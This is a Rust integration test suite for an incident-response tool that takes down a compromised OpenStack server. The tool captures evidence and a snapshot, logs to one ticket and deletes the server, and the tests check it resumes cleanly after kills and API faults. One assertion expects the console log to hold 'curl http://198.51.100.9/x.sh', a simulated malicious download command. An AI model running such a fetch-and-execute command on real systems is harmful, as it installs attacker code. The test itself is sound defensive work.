//! delete and takedown: evidence first, resumable after a kill at every step, one ticket, and
//! the same output under injected 429/5xx faults.

mod common;

use common::*;
use serde_json::{Value, json};

fn kinds(t: &Value) -> Vec<String> {
    t["conversations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            let body = c["body"].as_str().unwrap();
            let marker = body
                .split("[sec-takedown:")
                .nth(1)
                .and_then(|r| r.split(':').next())
                .unwrap_or("?");
            format!("{}:{marker}", c["kind"].as_str().unwrap())
        })
        .collect()
}

const FULL: [&str; 5] = [
    "note:note",
    "note:evidence",
    "note:snapshot",
    "note:delete",
    "reply:reply-deleted",
];

fn expected_kinds() -> Vec<String> {
    FULL.iter().map(|s| s.to_string()).collect()
}

/// The final state every takedown of web01 must reach.
fn assert_taken_down(sim: &octo_sim::Sim, id: &str) {
    assert!(server(sim, id).is_none(), "server still exists");
    assert!(
        sim.state()["openstack"]["deleted_servers"]
            .as_array()
            .unwrap()
            .contains(&json!(id))
    );
    let ts = tickets(sim);
    assert_eq!(ts.len(), 1, "exactly one ticket: {ts:#?}");
    let t = &ts[0];
    assert_eq!(t["status"], 4, "resolved");
    assert_eq!(kinds(t), expected_kinds());
    let snaps: Vec<Value> = sim.state()["openstack"]["images"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| i["instance_uuid"] == json!(id))
        .cloned()
        .collect();
    assert_eq!(snaps.len(), 1, "exactly one snapshot");
    assert_eq!(snaps[0]["name"], json!(format!("security-{id}")));
    let snap_note = t["conversations"][2]["body"].as_str().unwrap();
    assert!(
        snap_note.contains(snaps[0]["id"].as_str().unwrap()),
        "{snap_note}"
    );
    let evidence = t["conversations"][1]["body"].as_str().unwrap();
    assert!(
        evidence.contains("curl http://198.51.100.9/x.sh"),
        "console log in the note"
    );
    let reply = &t["conversations"][4];
    assert!(reply["body"].as_str().unwrap().contains("<b>deleted.</b>"));
}

#[test]
fn takedown_end_to_end_and_rerun() {
    let (sim, id, env) = web01_env();
    let out = env.run(&[
        "takedown",
        &id,
        "--apply",
        "--yes",
        "--snapshot",
        "--cc",
        "csirt@example.org",
    ]);
    ok(&out);
    let recs = jsonl(&out);
    let applied: Vec<String> = steps(&recs)
        .into_iter()
        .filter(|(_, s)| s == "applied")
        .map(|(s, _)| s)
        .collect();
    assert_eq!(
        applied,
        [
            "pause", "lock", "ticket", "note", "evidence", "snapshot", "delete", "reply", "resolve"
        ]
    );
    assert_taken_down(&sim, &id);
    // every record has a ticket id once the ticket exists
    let after_ticket: Vec<&Value> = recs.iter().skip_while(|r| r["step"] != "note").collect();
    assert!(after_ticket.iter().all(|r| r["ticket_id"].is_u64()));
    // re-run after the end: the server is gone, the ticket is found by its tag, nothing repeated
    let out = env.run(&["takedown", &id, "--apply", "--yes", "--snapshot"]);
    ok(&out);
    let recs = jsonl(&out);
    assert!(
        recs.iter()
            .filter(|r| r["status"] != "planned")
            .all(|r| r["status"] == "unchanged"),
        "{recs:#?}"
    );
    assert_taken_down(&sim, &id);
}

#[test]
fn delete_after_lock_needs_a_ticket_and_yes() {
    let (sim, id, env) = web01_env();
    let out = env.run(&["delete", &id, "--apply", "--yes"]);
    exits_with(&out, 2, "run `sec-takedown lock");
    assert!(server(&sim, &id).is_some());
    ok(&env.run(&["lock", &id, "--apply"]));
    let out = env.run(&["delete", &id, "--apply", "--yes", "--snapshot"]);
    ok(&out);
    assert_taken_down(&sim, &id);
}

#[test]
fn evidence_failure_blocks_delete_unless_forced() {
    let sim = spawn();
    let id = web01(&sim);
    sim_put(
        &sim,
        &format!("/_sim/openstack/servers/{id}"),
        &json!({"console_fault": 501}),
    );
    let env = Env::new(&sim.url());
    let out = env.run(&["takedown", &id, "--apply", "--yes"]);
    exits_with(&out, 1, "evidence capture failed");
    let recs = jsonl(&out);
    let failed: Vec<(String, String)> = steps(&recs)
        .into_iter()
        .filter(|(_, s)| s == "failed")
        .collect();
    assert_eq!(
        failed,
        [
            ("evidence".to_string(), "failed".to_string()),
            ("delete".into(), "failed".into())
        ]
    );
    let ev = recs
        .iter()
        .find(|r| r["step"] == "evidence" && r["status"] == "failed")
        .unwrap();
    assert!(ev["detail"].as_str().unwrap().contains("HTTP 501"), "{ev}");
    let srv = server(&sim, &id).expect("not deleted");
    assert_eq!(srv["status"], "PAUSED");
    assert_eq!(srv["locked"], true);
    assert_eq!(srv["metadata"]["security_takedown_step"], "noted");
    // --force deletes anyway
    let out = env.run(&["takedown", &id, "--apply", "--yes", "--force"]);
    ok(&out);
    assert!(server(&sim, &id).is_none());
    assert_eq!(tickets(&sim).len(), 1);
    assert_eq!(tickets(&sim)[0]["status"], 4);
}

/// Every point where a kill can land, in order.
const STOP_POINTS: [&str; 13] = [
    "pause",
    "lock",
    "ticket:created",
    "ticket",
    "note:posted",
    "note",
    "evidence:posted",
    "evidence",
    "snapshot:created",
    "snapshot",
    "delete",
    "reply",
    "resolve",
];

fn kill_and_resume(points: &[&str]) {
    let sim = spawn();
    let id = web01(&sim);
    for point in points {
        sim.reset();
        // search lags like FreshDesk's index: only listing can find a just-created ticket
        sim_put(
            &sim,
            "/_sim/freshdesk/knobs",
            &json!({"search_lag_ms": 600000}),
        );
        let env = Env::new(&sim.url());
        let out = env.run(&[
            "takedown",
            &id,
            "--apply",
            "--yes",
            "--snapshot",
            "--stop-after",
            point,
        ]);
        assert_eq!(code(&out), 137, "stop at {point}: {}", stderr(&out));
        let out = env.run(&["takedown", &id, "--apply", "--yes", "--snapshot"]);
        ok(&out);
        let recs = jsonl(&out);
        assert!(
            recs.iter().all(|r| r["status"] != "failed"),
            "{point}: {recs:#?}"
        );
        assert_taken_down(&sim, &id);
    }
}

#[test]
fn kill_after_each_step_then_resume_first_half() {
    kill_and_resume(&STOP_POINTS[..6]);
}

#[test]
fn kill_after_each_step_then_resume_second_half() {
    kill_and_resume(&STOP_POINTS[6..13]);
}

#[test]
fn kill_during_unlock_then_resume() {
    let sim = spawn();
    let id = web01(&sim);
    for point in ["unpause", "unlock", "reply:posted", "reply", "resolve"] {
        sim.reset();
        let env = Env::new(&sim.url());
        ok(&env.run(&["lock", &id, "--apply"]));
        let out = env.run(&["unlock", &id, "--apply", "--stop-after", point]);
        assert_eq!(code(&out), 137, "{point}");
        ok(&env.run(&["unlock", &id, "--apply"]));
        let srv = server(&sim, &id).unwrap();
        assert_eq!(
            (srv["status"].clone(), srv["locked"].clone()),
            (json!("ACTIVE"), json!(false)),
            "{point}"
        );
        assert_eq!(srv["metadata"]["security_takedown_step"], "unlocked");
        let t = &tickets(&sim)[0];
        assert_eq!(t["status"], 4);
        assert_eq!(kinds(t), ["note:note", "reply:unlock-reply"], "{point}");
    }
}

#[test]
fn output_is_identical_under_429_and_5xx_faults() {
    let clean = spawn();
    let faulty = spawn();
    let id = web01(&clean);
    assert_eq!(id, web01(&faulty), "same seed, same ids");
    let out = Env::new(&clean.url()).run(&["takedown", &id, "--apply", "--yes", "--snapshot"]);
    ok(&out);
    let want = normalized(&jsonl(&out));
    faulty.set_faults(octo_sim::Faults {
        rate_429: 0.25,
        retry_after_secs: 0,
        rate_5xx: 0.2,
        max_in_a_row: 2,
        ..octo_sim::Faults::default()
    });
    let out = Env::new(&faulty.url()).run(&["takedown", &id, "--apply", "--yes", "--snapshot"]);
    ok(&out);
    let got = normalized(&jsonl(&out));
    let faults = faulty.state()["requests"]["by_status"].clone();
    faulty.set_faults(octo_sim::Faults::default());
    // ticket ids are allocated the same way in both simulators
    assert_eq!(got, want, "faults: {faults}");
    assert!(
        faults.get("429").is_some()
            && faults
                .as_object()
                .unwrap()
                .keys()
                .any(|k| k.starts_with('5')),
        "faults fired: {faults}"
    );
    assert_taken_down(&faulty, &id);
}

#[test]
fn records_match_the_schema() {
    let (_sim, id, env) = web01_env();
    // a dry run (planned only), the takedown itself, then a re-run (unchanged only)
    for (args, statuses) in [
        (vec!["takedown", &id, "--dry-run"], vec!["planned"]),
        (
            vec!["takedown", &id, "--apply", "--yes"],
            vec!["planned", "applied"],
        ),
    ] {
        let out = env.run(&args);
        ok(&out);
        let recs = jsonl(&out);
        octo_testkit::assert_records(&recs, "sec-takedown.step.v1");
        for r in &recs {
            assert!(statuses.contains(&r["status"].as_str().unwrap()), "{r}");
            assert_eq!(r["command"], "takedown");
            assert_eq!(r["server_id"], id.as_str());
        }
    }
}

#[test]
fn delete_after_an_interrupted_lock_adds_the_missing_details_note() {
    let (sim, id, env) = web01_env();
    let out = env.run(&["lock", &id, "--apply", "--stop-after", "ticket"]);
    assert_eq!(code(&out), 137);
    let out = env.run(&["delete", &id, "--apply", "--yes"]);
    ok(&out);
    let ts = tickets(&sim);
    assert_eq!(ts.len(), 1);
    assert_eq!(
        kinds(&ts[0]),
        [
            "note:note",
            "note:evidence",
            "note:delete",
            "reply:reply-deleted"
        ]
    );
    assert_eq!(ts[0]["status"], 4);
    assert!(server(&sim, &id).is_none());
}
